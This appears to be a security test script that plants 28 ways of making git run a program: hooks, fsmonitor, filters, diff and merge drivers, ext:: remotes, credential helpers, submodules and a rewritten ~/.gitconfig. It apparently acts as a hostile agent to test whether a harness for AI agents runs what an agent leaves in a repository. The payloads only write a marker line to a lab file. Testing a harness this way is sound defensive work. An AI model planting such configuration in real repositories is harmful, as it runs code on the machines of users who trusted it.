"""Twenty-eight ways to make git run something, planted in a tree and its git directory.

Each leaves a program of ours where git would start it; the program writes a line into a file of the laboratory. Run as
an agent, with the attack's name and the laboratory's folder; with a folder alone, the name comes from the task.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

GIT = shutil.which("git") or "/usr/bin/git"
ENVIRONMENT = {
    "PATH": "/usr/bin:/bin",
    "LANG": "C.UTF-8",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "b",
    "GIT_AUTHOR_EMAIL": "b@example.invalid",
    "GIT_COMMITTER_NAME": "b",
    "GIT_COMMITTER_EMAIL": "b@example.invalid",
}
MARK = "ran"
HOOKS = (
    *("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-index-change"),
    *("reference-transaction", "pre-push", "post-merge", "post-rewrite", "applypatch-msg", "pre-applypatch"),
    *("post-applypatch", "pre-auto-gc"),
)


class Lab:
    """The tree ``ws`` that is poisoned, the programs, and a repository that it may name as its origin."""

    def __init__(self, ws: Path, folder: Path) -> None:
        self.ws = ws
        self.folder = folder

    def git(self, *arguments: str | Path, at: Path | None = None, ok: bool = False) -> str:
        """Run git in the tree."""
        done = subprocess.run(
            [GIT, *arguments],
            cwd=at or self.ws,
            env={**ENVIRONMENT, "HOME": os.environ.get("HOME", "/")},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=not ok,
            timeout=60,
        )
        return done.stdout.decode().strip()

    def set(self, key: str, value: str | Path, at: Path | None = None) -> None:
        """Set a configuration value of the tree's repository."""
        self.git("config", key, value, at=at)

    def attributes(self, text: str) -> None:
        """Write the attributes of the tree."""
        (self.ws / ".gitattributes").write_text(text, encoding="utf-8")

    def program(self, name: str) -> Path:
        """The program that tells that it was run. It was made beforehand, by ``prepare``."""
        return self.folder / "programs" / "".join(c if c.isalnum() else "_" for c in name)

    def nested(self) -> Path:
        """A repository inside the tree, in the folder of the submodule."""
        inner = self.ws / "nested"
        inner.mkdir(exist_ok=True)
        self.git("init", "-q", inner)
        (inner / "f").write_text("x", encoding="utf-8")
        self.git("add", "-A", at=inner)
        self.git("commit", "-qm", "n", at=inner)
        return inner


def prepare(folder: Path) -> None:
    """Make the programs, which name themselves when they are run."""
    programs = folder / "programs"
    programs.mkdir(parents=True, exist_ok=True)
    for name in ("program", *HOOKS):
        path = programs / "".join(c if c.isalnum() else "_" for c in name)
        path.write_text(f"#!/bin/sh\necho {name} >> {folder / MARK}\nexit 0\n", encoding="ascii")
        path.chmod(0o755)


def hooks(lab: Lab) -> None:
    (lab.ws / ".git/hooks").mkdir(exist_ok=True)
    for name in HOOKS:
        shutil.copy(lab.program(name), lab.ws / ".git/hooks" / name)


def hooks_path(lab: Lab) -> None:
    (lab.ws / "h").mkdir(exist_ok=True)
    for name in ("pre-commit", "reference-transaction", "post-index-change", "pre-push"):
        shutil.copy(lab.program(name), lab.ws / "h" / name)
    lab.set("core.hooksPath", lab.ws / "h")


def fsmonitor(lab: Lab) -> None:
    lab.set("core.fsmonitor", lab.program("program"))


def include_in_tree(lab: Lab) -> None:
    text = f"[core]\n\tfsmonitor = {lab.program('program')}\n"
    (lab.ws / "evil.cfg").write_text(text, encoding="utf-8")
    lab.set("include.path", "../evil.cfg")


def filter_clean(lab: Lab) -> None:
    lab.attributes("*.txt filter=evil\n")
    lab.set("filter.evil.clean", lab.program("program"))
    lab.set("filter.evil.smudge", lab.program("program"))


def filter_process(lab: Lab) -> None:
    lab.attributes("*.txt filter=evil\n")
    lab.set("filter.evil.process", lab.program("program"))


def filter_info_attributes(lab: Lab) -> None:
    (lab.ws / ".git/info").mkdir(exist_ok=True)
    (lab.ws / ".git/info/attributes").write_text("*.txt filter=evil\n", encoding="utf-8")
    lab.set("filter.evil.clean", lab.program("program"))


def diff_external(lab: Lab) -> None:
    lab.set("diff.external", lab.program("program"))


def diff_driver(lab: Lab) -> None:
    lab.attributes("*.txt diff=evil\n")
    lab.set("diff.evil.command", lab.program("program"))


def textconv(lab: Lab) -> None:
    lab.attributes("*.txt diff=evil\n")
    lab.set("diff.evil.textconv", lab.program("program"))


def merge_driver(lab: Lab) -> None:
    lab.attributes("*.txt merge=evil\n")
    lab.set("merge.evil.driver", lab.program("program"))


def gpg_program(lab: Lab) -> None:
    lab.set("commit.gpgSign", "true")
    lab.set("gpg.program", lab.program("program"))


def editor_and_pager(lab: Lab) -> None:
    for key in ("core.editor", "core.pager", "sequence.editor", "core.askPass", "pager.diff", "pager.log"):
        lab.set(key, lab.program("program"))


def ssh_command(lab: Lab) -> None:
    lab.set("core.sshCommand", lab.program("program"))
    lab.set("remote.origin.url", "ssh://git@example.invalid/x")


def remote_ext(lab: Lab) -> None:
    lab.set("remote.origin.url", f"ext::{lab.program('program')}")
    lab.set("protocol.ext.allow", "always")


def receivepack(lab: Lab) -> None:
    lab.set("remote.origin.url", lab.folder / "origin.git")
    lab.set("remote.origin.receivepack", lab.program("program"))
    lab.set("remote.origin.uploadpack", lab.program("program"))


def instead_of(lab: Lab) -> None:
    lab.set("remote.origin.url", lab.folder / "origin.git")
    lab.set(f"url.ext::{lab.program('program')}.insteadOf", lab.folder / "origin.git")
    lab.set("protocol.ext.allow", "always")


def credential_helper(lab: Lab) -> None:
    lab.set("credential.helper", f"!{lab.program('program')}")
    lab.set("remote.origin.url", (lab.folder / "wants-a-password").read_text(encoding="ascii"))


def credential_helper_of_url(lab: Lab) -> None:
    url = (lab.folder / "wants-a-password").read_text(encoding="ascii")
    lab.set(f"credential.{url}.helper", f"!{lab.program('program')}")
    lab.set("remote.origin.url", url)


def askpass(lab: Lab) -> None:
    lab.set("core.askPass", lab.program("program"))
    lab.set("remote.origin.url", (lab.folder / "wants-a-password").read_text(encoding="ascii"))


def promisor(lab: Lab) -> None:
    lab.set("core.repositoryformatversion", "1")
    lab.set("extensions.partialClone", "ev")
    lab.set("remote.ev.promisor", "true")
    lab.set("remote.ev.url", lab.folder / "origin.git")
    lab.set("remote.ev.uploadpack", lab.program("program"))
    blobs = lab.git("ls-files", "-s").splitlines()
    for oid in {line.split()[1] for line in blobs}:
        (lab.ws / ".git/objects" / oid[:2] / oid[2:]).unlink(missing_ok=True)


def gitfile(lab: Lab) -> None:
    (lab.ws / "d").mkdir(exist_ok=True)
    shutil.move(lab.ws / ".git", lab.ws / "d/real")
    (lab.ws / ".git").write_text("gitdir: d/real\n", encoding="utf-8")
    lab.set("core.fsmonitor", lab.program("program"))


def home_configuration(lab: Lab) -> None:
    text = f"[core]\n\tfsmonitor = {lab.program('program')}\n"
    home = Path(os.environ.get("HOME", "/nonexistent"))
    if home.is_dir():
        (home / ".gitconfig").write_text(text, encoding="utf-8")


def nested_fsmonitor(lab: Lab) -> None:
    (lab.ws / "inner").mkdir(exist_ok=True)
    inner = lab.nested().rename(lab.ws / "inner" / "repository")
    lab.set("core.fsmonitor", lab.program("program"), at=inner)
    (inner / "f").write_text("y", encoding="utf-8")


def nested_filter(lab: Lab) -> None:
    (lab.ws / "inner").mkdir(exist_ok=True)
    inner = lab.nested().rename(lab.ws / "inner" / "repository")
    (inner / ".gitattributes").write_text("* filter=evil\n", encoding="utf-8")
    lab.set("filter.evil.clean", lab.program("program"), at=inner)
    (inner / "f").write_text("y", encoding="utf-8")


def new_submodule_fsmonitor(lab: Lab) -> None:
    inner = lab.nested()
    new = inner.rename(lab.ws / "added")
    lab.set("core.fsmonitor", lab.program("program"), at=new)
    (new / "f").write_text("y", encoding="utf-8")
    head = lab.git("rev-parse", "HEAD", at=new)
    lab.git("update-index", "--add", "--cacheinfo", f"160000,{head},added")
    (lab.ws / ".gitmodules").write_text('[submodule "added"]\n\tpath = added\n\turl = ./x\n', encoding="utf-8")


def submodule_fsmonitor(lab: Lab) -> None:
    inner = lab.nested()
    lab.set("core.fsmonitor", lab.program("program"), at=inner)
    (inner / "f").write_text("y", encoding="utf-8")


def submodule_filter(lab: Lab) -> None:
    inner = lab.nested()
    (inner / ".gitattributes").write_text("* filter=evil\n", encoding="utf-8")
    lab.set("filter.evil.clean", lab.program("program"), at=inner)
    (inner / "f").write_text("z", encoding="utf-8")


ATTACKS: dict[str, Callable[[Lab], None]] = {
    attack.__name__: attack
    for attack in (
        *(hooks, hooks_path, fsmonitor, include_in_tree, filter_clean, filter_process, filter_info_attributes),
        *(diff_external, diff_driver, textconv, merge_driver, gpg_program, editor_and_pager, ssh_command, remote_ext),
        *(receivepack, instead_of, credential_helper, credential_helper_of_url, askpass, promisor, gitfile),
        *(home_configuration, nested_fsmonitor, nested_filter, new_submodule_fsmonitor, submodule_fsmonitor),
        submodule_filter,
    )
}


def main() -> None:
    """Plant the attack in the folder this is started in, and change a file, so that there is something to suggest."""
    folder = Path(sys.argv[-1])
    name = sys.argv[1] if len(sys.argv) > 2 else _asked()
    ws = Path.cwd()
    with (ws / "a.txt").open("a", encoding="utf-8") as file:
        file.write(f"{name}\n")
    ATTACKS[name](Lab(ws, folder))


def _asked() -> str:
    task = Path(os.environ["GITCLAW_PROMPT"]).read_text(encoding="utf-8")
    told = [line.removeprefix("attack ") for line in task.splitlines() if line.startswith("attack ")]
    return next(name for name in told if name in ATTACKS)


if __name__ == "__main__":
    main()
